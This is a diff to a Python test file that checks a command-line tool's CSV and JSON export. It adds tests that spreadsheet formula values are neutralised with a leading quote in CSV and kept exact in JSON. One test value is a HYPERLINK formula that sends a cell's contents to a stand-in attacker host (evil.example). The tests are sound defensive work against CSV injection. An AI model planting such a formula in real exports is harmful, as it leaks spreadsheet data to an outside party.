@@ -23,10 +23,12 @@ HOSTILE = [
     "line\nbreak\ttab",
     "\u202eevil",
     'quote " and, comma',
-    "=HYPERLINK()",
     "naïve 名前",
 ]
 """Values from data that must come back as they were."""
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "\r=1"]
+"""Values a spreadsheet would run as a formula if a CSV cell began with them."""
 
 HUGE = Decimal(str(10**51) + ".000000000000000000000001")  # Decimal(76, 24) at both ends
 MONEY = [Decimal("0.120000000000000000000000"), HUGE, Decimal("-0E-24"), Decimal("7")]
@@ -51,6 +53,33 @@ def test_a_hostile_value_parses_back_as_it_was(value: str) -> None:
         ["scope_id", "n"],
         [value, "3"],
     ]
+
+
+@pytest.mark.parametrize("value", FORMULAS, ids=repr)
+def test_a_value_a_spreadsheet_would_run_is_text_in_csv_and_exact_in_json(value: str) -> None:
+    """An end customer's `user` named `=HYPERLINK(...)` must not become a live formula in the
+    sheet an analyst opens `spend --format csv` in: CSV gives it a leading `'` (OWASP's advice),
+    which spreadsheets read as "this is text". JSON, for programs, carries it as it was."""
+    text = csv_text(["scope_id", "spend"], [[value, Decimal("-1.5")]])
+
+    assert list(csv.reader(io.StringIO(newline="", initial_value=text)))[1] == ["'" + value, "-1.5"]
+    assert json.loads(json_text([{"scope_id": value}])) == [{"scope_id": value}]
+
+
+def test_numbers_keep_their_sign_in_csv_also_when_written_as_text() -> None:
+    """Money read from a record's JSON is a string (`alerts tail`): a figure, never a formula."""
+    row = [Decimal("-0.25"), -3, -0.5, "-0.000000000000000000000001", "+7", "-1e-3", "-.5"]
+    text = csv_text(["spend", "n", "ratio", "remaining", "a", "b", "c"], [row])
+
+    assert list(csv.reader(io.StringIO(newline="", initial_value=text)))[1] == [
+        "-0.25", "-3", "-0.5", "-0.000000000000000000000001", "+7", "-1e-3", "-.5"
+    ]  # fmt: skip
+
+
+def test_a_lone_surrogate_is_escaped_in_csv_so_a_utf8_stdout_takes_it() -> None:
+    text = csv_text(["scope_id"], [["team:\ud800"]])
+
+    assert text.encode() == b"scope_id\r\nteam:\\ud800\r\n"
 
 
 def test_other_types_are_carried_exactly() -> None:
